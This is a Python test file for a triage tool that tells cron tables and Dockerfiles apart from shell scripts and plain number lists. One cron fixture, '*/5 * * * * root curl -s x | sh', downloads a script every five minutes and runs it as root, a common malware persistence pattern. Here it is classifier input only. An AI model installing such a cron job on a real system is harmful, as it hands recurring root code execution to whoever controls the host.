"""Tables of cron and descriptions of containers are told from shell scripts and from lists of numbers."""

from vedette.triage.identify import identify
from vedette.triage.kinds import Kind


def test_tables_of_cron() -> None:
    assert identify(b"*/5 * * * * root curl -s x | sh\n", "a") is Kind.CRON
    assert identify(b"PATH=/bin\n@reboot /opt/a\n0 3 * * mon /opt/b\n", "jobs.txt") is Kind.CRON
    assert identify(b"30 4 1 1 5 /opt/yearly\n", "etc/cron.d/y") is Kind.CRON


def test_numbers_and_scripts_are_none() -> None:
    assert identify(b"1 2 3 4 5 word\n6 7 8 9 1 word\n", "data.txt") is not Kind.CRON
    assert identify(b"#!/bin/sh\n* * * * * a\n", "crontab") is Kind.SHELL


def test_descriptions_of_containers() -> None:
    assert identify(b"# syntax\nFROM debian:12\nRUN apt-get update\n", "Dockerfile") is Kind.DOCKERFILE
    assert identify(b"From: a@example.org\nRUN for it\n", "a") is not Kind.DOCKERFILE
